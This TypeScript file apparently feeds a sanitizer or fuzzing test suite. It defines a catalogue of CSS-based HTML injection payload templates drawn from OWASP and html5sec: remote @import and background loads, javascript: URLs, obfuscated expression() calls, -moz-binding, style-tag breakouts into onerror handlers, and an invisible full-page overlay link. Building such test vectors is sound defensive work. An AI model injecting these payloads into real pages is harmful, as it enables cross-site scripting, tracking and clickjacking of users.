import type { Category } from '../vector.ts'

export const STYLES: Category = {
  name: 'styles',
  kind: 'html',
  source:
    'OWASP: list-style-image, STYLE sheet, remote style sheet, STYLE tags with broken-up JavaScript, STYLE attribute, ' +
    'background-image, DIV with expression; html5sec: css behaviour, -moz-binding, import',
  techniques: [
    ['import', ({ address }) => `<style>@import'${address}.css';</style>`],
    ['import-of-code', ({ call }) => `<style>@im\\port'\\ja\\vasc\\ript:${call}';</style>`],
    ['linked-sheet', ({ address }) => `<link rel=stylesheet href=${address}.css>`],
    ['linked-code', ({ call }) => `<link rel=stylesheet href="javascript:${call}">`],
    ['linked-data', ({ address }) => `<link rel=stylesheet href="data:text/css,@import'${address}.css'">`],
    ['background', ({ address }) => `<p style="background:url(${address}.png)">x</p>`],
    ['background-in-sheet', ({ address }) => `<style>p{background:url("${address}.png")}</style><p>x</p>`],
    ['background-of-code', ({ call }) => `<div style="background-image:url(javascript:${call})">x</div>`],
    [
      'background-escaped',
      ({ address }) => `<div style="background-image:\\0075\\0072\\006C('${address}.png')">x</div>`,
    ],
    ['list-image', ({ address }) => `<style>li{list-style-image:url("${address}.png")}</style><ul><li>x</ul>`],
    ['image-set', ({ address }) => `<p style="background:image-set('${address}.png' 1x)">x</p>`],
    ['content', ({ address }) => `<style>p::before{content:url(${address}.png)}</style>`],
    ['cursor', ({ address }) => `<p style="cursor:url(${address}.cur),auto">x</p>`],
    ['mask', ({ address }) => `<p style="mask:url(${address}.svg#m);filter:url(${address}.svg#f)">x</p>`],
    ['font', ({ address }) => `<style>@font-face{font-family:f;src:url(${address}.woff2)}p{font-family:f}</style>`],
    ['attribute-selector', ({ address }) => `<style>a[href^=".."]{background:url(${address}.png)}</style>`],
    ['expression', ({ call }) => `<div style="width:expression(${call})">x</div>`],
    ['expression-with-comment', ({ call }) => `<p style="xss:expr/*xss*/ession(${call})">x</p>`],
    ['expression-escaped', ({ call }) => `<p style="width:\\65xpression(${call})">x</p>`],
    ['behaviour', ({ address }) => `<p style="behavior:url(${address}.htc)">x</p>`],
    ['binding', ({ address }) => `<style>body{-moz-binding:url("${address}.xml#xss")}</style>`],
    ['as-script', ({ call }) => `<style type=text/javascript>${call}</style>`],
    ['end-in-attribute', ({ call }) => `<style><img src="</style><img src=x onerror=${call}>"></style>`],
    ['end-in-comment', ({ call }) => `<style>/*</style><img src=x onerror=${call}>*/</style>`],
    ['end-in-string', ({ call }) => `<p style="font-family:'</style><img src=x onerror=${call}>'">x</p>`],
    ['unclosed', ({ address }) => `<style>@import'${address}.css'`],
    ['over-the-page', ({ address }) => `<a href=${address} style="position:fixed;inset:0;opacity:0">x</a>`],
    ['class-of-the-app', ({ address }) => `<p class="skip-link sr-only masthead" style=color:red>x ${address}</p>`],
  ],
}
